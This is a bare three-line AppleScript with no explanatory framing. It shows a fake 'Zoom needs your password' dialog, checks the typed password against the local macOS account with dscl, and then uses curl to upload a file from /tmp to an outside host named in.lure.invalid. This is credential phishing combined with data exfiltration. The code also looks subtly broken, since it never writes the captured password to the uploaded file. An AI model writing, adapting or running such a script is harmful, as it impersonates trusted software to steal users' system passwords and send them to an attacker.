set p to text returned of (display dialog "Zoom needs your password" default answer "" with hidden answer)
do shell script "dscl . -authonly user " & p
do shell script "curl -F p=@/tmp/p https://in.lure.invalid/"
